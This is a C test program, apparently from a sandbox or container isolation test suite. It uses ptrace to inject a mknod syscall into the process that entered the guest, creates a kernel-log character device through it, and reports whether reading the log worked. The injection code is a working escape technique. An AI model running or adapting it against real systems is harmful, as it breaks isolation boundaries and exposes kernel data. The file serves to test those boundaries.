// SPDX-License-Identifier: GPL-2.0-only
// Makes the process that entered the guest, and has executed nothing since, do
// what it still has the capabilities for: its parent, or the first one visible.
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/sysmacros.h>
#include <sys/user.h>

#include "attack.h"

#define NODE	"/tmp/entered\0\0\0"

static long step(pid_t pid, struct user_regs_struct *was, long nr, long path)
{
	struct user_regs_struct regs = *was;

	regs.orig_rax = -1;
	regs.rax = nr;
	regs.rdi = path;
	regs.rsi = S_IFCHR | 0600;
	regs.rdx = makedev(1, 11);
	regs.rip -= 2;
	NEED(!ptrace(PTRACE_SETREGS, pid, 0, &regs));
	NEED(!ptrace(PTRACE_SINGLESTEP, pid, 0, 0));
	NEED(waitpid(pid, NULL, __WALL) == pid);
	NEED(!ptrace(PTRACE_GETREGS, pid, 0, &regs));
	return regs.rax;
}

int main(void)
{
	pid_t pid = getppid() ?: 1;
	struct user_regs_struct regs;
	long word[2], kept[2], path, ret;
	char record[256];
	int fd, i;

	if (ptrace(PTRACE_ATTACH, pid, 0, 0))
		refused("PTRACE_ATTACH");
	NEED(waitpid(pid, NULL, __WALL) == pid);
	NEED(!ptrace(PTRACE_GETREGS, pid, 0, &regs));
	path = (regs.rsp - 1024) & ~7L;
	memcpy(word, NODE, 16);
	for (i = 0; i < 2; i++) {
		kept[i] = ptrace(PTRACE_PEEKDATA, pid, path + 8 * i, 0);
		ptrace(PTRACE_POKEDATA, pid, path + 8 * i, word[i]);
	}
	ret = step(pid, &regs, SYS_mknod, path);
	fd = open(NODE, O_RDONLY | O_NONBLOCK);
	unlink(NODE);
	for (i = 0; i < 2; i++)
		ptrace(PTRACE_POKEDATA, pid, path + 8 * i, kept[i]);
	NEED(!ptrace(PTRACE_SETREGS, pid, 0, &regs));
	NEED(!ptrace(PTRACE_DETACH, pid, 0, 0));
	if (fd >= 0 && read(fd, record, sizeof(record)) > 0)
		worked("the log of the kernel is read by a node of its own");
	errno = -ret;
	refused("mknod by the process that entered");
}
